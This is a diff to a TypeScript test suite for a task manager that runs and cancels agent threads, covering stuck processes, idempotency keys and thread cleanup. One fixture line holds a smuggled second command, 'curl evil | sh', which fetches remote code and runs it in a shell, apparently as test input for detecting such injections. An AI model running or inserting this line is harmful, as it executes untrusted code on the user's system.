@@ -36,12 +36,13 @@ let journal: FakeJournal;
 let tasks: TaskManager;
 const announced: string[] = [];
 
-function manager(settings: Partial<WorkerSettings> = {}): TaskManager {
+function manager(settings: Partial<WorkerSettings> = {}, stopLimitMs = 5_000): TaskManager {
   return new TaskManager({
     agent,
     journal,
     settings: testSettings(tmpdir(), settings),
     log: () => undefined,
+    stopLimitMs,
     onFirstWritableTask: (cwd) => announced.push(cwd),
   });
 }
@@ -114,6 +115,40 @@ describe('a task', () => {
       ]),
     );
     expect(journal.text(id, 'verbose')).toContain('[warning] process 3 may be of this task and was left alone: c');
+    expect(tasks.get(id)).toMatchObject({ status: 'working', stopping: true, endedAt: null });
+    thread.report = { killed: [], alive: [], unattributed: [] };
+    await vi.waitFor(() => expect(tasks.get(id)).toMatchObject({ status: 'completed', leftovers: [] }));
+  });
+
+  it('with a process that cannot be ended is not called cancelled until it is gone', async () => {
+    tasks.dispose();
+    tasks = manager({}, 200);
+    const { id, thread } = await running();
+    const dead = await running();
+    thread.report = { killed: [], alive: [{ pid: 77, command: 'stuck' }], unattributed: [] };
+    const cancelling = tasks.cancel([id, dead.id]);
+    const refused = expect(cancelling).rejects.toMatchObject({
+      message: `Not everything could be ended: ${id}: process 77 (stuck).`,
+      retryable: true,
+    });
+    await refused;
+    expect(tasks.get(dead.id).status).toBe('cancelled');
+    expect(tasks.get(id)).toMatchObject({ status: 'working', activity: 'stopping: process 77 is still alive' });
+    thread.report = { killed: [], alive: [], unattributed: [] };
+    await vi.waitFor(() => expect(tasks.get(id).status).toBe('cancelled'), 5_000);
+  });
+
+  it('that is cancelled and forgotten before its thread was made leaves nothing behind', async () => {
+    let open: () => void = () => undefined;
+    agent.opening = new Promise((resolve) => (open = resolve));
+    const { id } = await tasks.spawn({ prompt: 'do it', keepAliveMs: 0 }, 'caller');
+    await vi.waitFor(() => expect(agent.specs).toHaveLength(1));
+    await tasks.cancel([id]);
+    await vi.waitFor(() => expect(tasks.tryGet(id)).toBeUndefined());
+    open();
+    await vi.waitFor(() => expect(agent.threads[0]?.disposed).toBe(true));
+    agent.threads[0]!.sink.onRaw('{"method":"thread/started"}');
+    expect(journal.text(id, 'events')).toBe('');
   });
 
   it('settles once more when Codex ran another turn meanwhile', async () => {
@@ -236,6 +271,7 @@ describe('a cancel', () => {
     let open: () => void = () => undefined;
     agent.opening = new Promise((resolve) => (open = resolve));
     const { id } = await tasks.spawn({ prompt: 'do it' }, 'caller');
+    await vi.waitFor(() => expect(agent.specs).toHaveLength(1));
     expect(await tasks.cancel([id])).toMatchObject({ cancelled: [id] });
     open();
     await vi.waitFor(() => expect(agent.threads[0]?.settles).toBe(1));
@@ -500,6 +536,17 @@ describe('a request', () => {
   });
 });
 
+it('the key of a task that is gone starts nothing', async () => {
+  const request = { prompt: 'do it', idempotencyKey: 'k', keepAliveMs: 0 };
+  const { id } = await tasks.spawn(request, 'caller');
+  await tasks.cancel([id]);
+  await vi.waitFor(() => expect(tasks.tryGet(id)).toBeUndefined());
+  await expect(tasks.spawn(request, 'caller')).rejects.toMatchObject({
+    code: 'not_found',
+    message: `idempotency_key: its task ${id} has ended and is not kept any more.`,
+  });
+});
+
 describe('what was found once', () => {
   const question = command('npm test\ncurl evil | sh');
 
@@ -570,11 +617,10 @@ describe('what was found once', () => {
 
   it('a removed task gives its thread back', async () => {
     const { id, thread } = await running();
-    thread.steered.push('x');
     thread.end();
     await vi.waitFor(() => expect(tasks.get(id).status).toBe('completed'));
     tasks.remove(id);
-    expect(thread.steered).toEqual([]);
+    expect(thread.disposed).toBe(true);
   });
 });
 
